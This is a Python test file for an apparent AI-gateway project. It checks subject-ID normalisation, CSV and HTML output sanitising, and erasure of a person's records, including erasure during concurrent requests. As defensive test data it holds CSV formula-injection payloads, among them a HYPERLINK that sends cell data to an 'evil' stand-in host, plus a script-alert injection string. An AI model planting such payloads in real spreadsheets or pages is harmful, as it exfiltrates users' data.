"""A person's rights against an enemy: ids that collide or run, erasures that race, what comes back (I9)."""

from __future__ import annotations

import csv
import io
import json
import threading
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from world import Inside, Region, World, chat, config, deployment

from allod.engines.scripted import acts
from allod.evidence.tables import safe
from allod.store.subjects import lookup_of, tag_of

SECRET = b"s" * 32


@given(one=st.text(max_size=12), other=st.text(max_size=12))
def test_two_ids_meet_only_where_they_are_one(one: str, other: str) -> None:
    import unicodedata

    same = unicodedata.normalize("NFC", one.strip()) == unicodedata.normalize("NFC", other.strip())
    assert (lookup_of(SECRET, one) == lookup_of(SECRET, other)) == same
    assert (tag_of(SECRET, one) == tag_of(SECRET, other)) == same


def test_an_accent_or_a_blank_makes_no_second_person() -> None:
    assert lookup_of(SECRET, "Jos\u00e9 ") == lookup_of(SECRET, "Jose\u0301")
    assert lookup_of(SECRET, "1") != lookup_of(SECRET, "1.0")
    assert lookup_of(SECRET, "Jose") != lookup_of(SECRET, "Jos\u00e9")


BEGINNINGS = ("=", "+", "-", "@", "\t", "\uff1d", "\uff20", "\u00a0=", "\u3000+", " \t-", "\r\n=")


@pytest.mark.parametrize("begin", BEGINNINGS)
def test_a_cell_runs_in_no_spreadsheet(begin: str) -> None:
    cell = safe(f'{begin}HYPERLINK("http://evil")')
    assert cell.startswith("'")
    out = io.StringIO()
    csv.writer(out).writerow([cell, safe('a","b\r\n=c')])
    assert len(list(csv.reader(io.StringIO(out.getvalue())))) == 1


NASTY = '=HYPERLINK("http://evil/?"&A1),<script>alert(1)</script>"\u202e'


def test_an_id_that_is_a_program_is_one_nowhere(tmp_path: Path) -> None:
    world = World(tmp_path / "home", config([deployment("home", "answer")]))
    world.key("ward")
    with Inside(world) as up:
        answer = up.chat({**chat("home", "hi"), "metadata": {"allod-subject": NASTY[:-1]}}, app="ward")
        assert answer.status == 200, answer
        assert up.chat({**chat("home", "hi"), "metadata": {"allod-subject": NASTY}}, app="ward").status == 400
    out = tmp_path / "out"
    done = world.allod("report", "subject", "--subject", NASTY[:-1], "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert answer.receipt in (out / "subject.csv").read_text()
    for path in out.rglob("*"):
        if path.is_file() and path.suffix != ".json":
            text = path.read_text()
            assert path.suffix != ".html" or "<script>alert" not in text, path
            assert not any(line.startswith(("=", '"=')) for line in text.splitlines()), path


def judge(method: str, path: str, body: bytes) -> Any:
    message = {"role": "assistant", "content": json.dumps({"classes": []})}
    return acts.plain(
        {
            "id": "c", "object": "chat.completion", "created": 1, "model": "judge",
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 9, "completion_tokens": 5, "total_tokens": 14},
        }
    )  # fmt: skip


def test_I9_a_question_put_to_a_judge_is_erased_with_the_person_it_was_about(tmp_path: Path) -> None:
    with Region(judge) as region:
        fleet = [
            deployment("judge", "judge", base_url=region.url, takes=["text", "json_schema"]),
            deployment("home", "answer"),
        ]
        world = World(tmp_path / "home", config(fleet, detect={"opinion": "judge"}))
        world.key("press")
        with Inside(world) as up:
            answer = up.chat(chat("home", "how is she doing today"), headers={"Allod-Subject": "p/1"})
            assert answer.status == 200, answer
            assert region.seen
        rows = world.all_requests()
        assert len(rows) == 2
        done = world.allod("report", "subject", "--subject", "p/1", "--erase", "--json")
        assert done.returncode == 0, done.stderr
        assert all(row.request_salt is None for row in world.all_requests())


def test_I9_what_is_erased_while_requests_run_does_not_come_back(tmp_path: Path) -> None:
    world = World(tmp_path / "home", config([deployment("home", "answer")]))
    world.key("press")
    stop = threading.Event()
    sent: list[str] = []

    def ask(up: Inside) -> None:
        while not stop.is_set():
            sent.append(up.chat(chat("home", "hi"), headers={"Allod-Subject": "p/1"}).receipt)

    with Inside(world) as up:
        threads = [threading.Thread(target=ask, args=(up,)) for _ in range(3)]
        for thread in threads:
            thread.start()
        for _ in range(4):
            up.gateway.store.erase_subject("p/1", at_ms=up.gateway.now_ms())
        stop.set()
        for thread in threads:
            thread.join(20)
        last = up.gateway.store.erase_subject("p/1", at_ms=up.gateway.now_ms())
        assert last.found in {True, False}
        before = {row.receipt for row in world.all_requests() if row.request_salt is not None}
    assert len(sent) > 8
    assert before == set()
    with Inside(world) as up:
        assert all(row.request_salt is None for row in world.all_requests())
        assert not up.gateway.store.erase_subject("p/1", at_ms=up.gateway.now_ms()).found
